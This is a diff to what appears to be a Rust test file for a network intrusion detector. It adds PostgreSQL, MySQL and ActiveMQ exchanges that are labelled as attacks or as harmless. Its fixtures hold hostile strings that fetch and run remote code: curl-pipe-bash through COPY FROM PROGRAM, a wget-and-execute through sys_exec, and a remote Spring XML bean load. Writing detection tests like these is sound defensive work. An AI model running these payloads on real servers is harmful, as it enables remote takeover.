@@ -108,10 +108,33 @@ fn services_that_run_what_they_are_told() {
             ATTEMPT,
             "COPY x FROM PROGRAM 'echo Y3VybCAtcyBodHRwOi8vMTQ1Ljk1LjEuMi94LnNoIHwgc2g= | base64 -d | bash'",
         ),
+        ("a table of a program's output, plain", ATTEMPT, "CREATE TABLE x(c text);COPY x FROM PROGRAM 'curl http://145.95.1.2/x.sh|bash'"),
+        ("a table of a program that looks around", NOTHING, "COPY x FROM PROGRAM 'id'"),
         ("a question for PostgreSQL", NOTHING, "INSERT INTO notes VALUES ('use curl http://145.95.1.2/a.sh to see whether it is up')"),
     ] {
         table.add(name, Way::In, 5432, kinds, None, &[(true, hello), (false, ready), (true, &query(sql)), (false, b"C\0\0\0\x0bCOPY 0\0")]);
     }
+    let greeting = b"\x0a5.7.33\0\x01\0\0\0abcdefgh\0\xff\xf7\x08\x02\0\xff\x81\x15\0\0\0\0\0\0\0\0\0\0abcdefghijkl\0";
+    let packet = |number: u8, body: &[u8]| [&(body.len() as u32).to_le_bytes()[..3], &[number], body].concat();
+    let login = packet(1, &[&b"\x85\xa6\x03\0\0\0\0\x01\x21"[..], &[0; 23], b"root\0\0"].concat());
+    for (name, kinds, sql) in [
+        ("a function that runs", ATTEMPT, "select sys_exec('wget http://145.95.1.2/a -O /tmp/a;chmod 777 /tmp/a;/tmp/a')"),
+        ("a question for MySQL", NOTHING, "insert into log values ('cd /tmp; wget http://145.95.1.2/a; sh a')"),
+    ] {
+        let asked = packet(0, &[b"\x03", sql.as_bytes()].concat());
+        let said = [(false, packet(0, greeting)), (true, login.clone()), (false, packet(2, &[0; 7])), (true, asked)];
+        let said: Vec<(bool, &[u8])> = said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
+        table.add(name, Way::In, 3306, kinds, None, &said);
+    }
+    let bean = b"\0\0\0\x73\x1f\0\0\0\0\0\0\0\0\0\x01\x01\0\x42org.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x1chttp://145.95.1.2/poc.xml";
+    table.add(
+        "a description of an application",
+        Way::In,
+        61616,
+        ATTEMPT,
+        None,
+        &[(false, b"\0\0\0\x41\x01ActiveMQ\0\0\0\x0c"), (true, bean)],
+    );
     let lines = b"<134>May  1 00:00:00 www nginx: 145.1.1.1 \"GET /shell?cd+/tmp;wget+http://145.95.1.2/jaws;sh+/tmp/jaws HTTP/1.1\" 404\n<134>May  1 00:00:01 www sshd[3]: ok\n";
     table.add("a log", Way::In, 514, NOTHING, None, &[(true, lines)]);
     table.check();
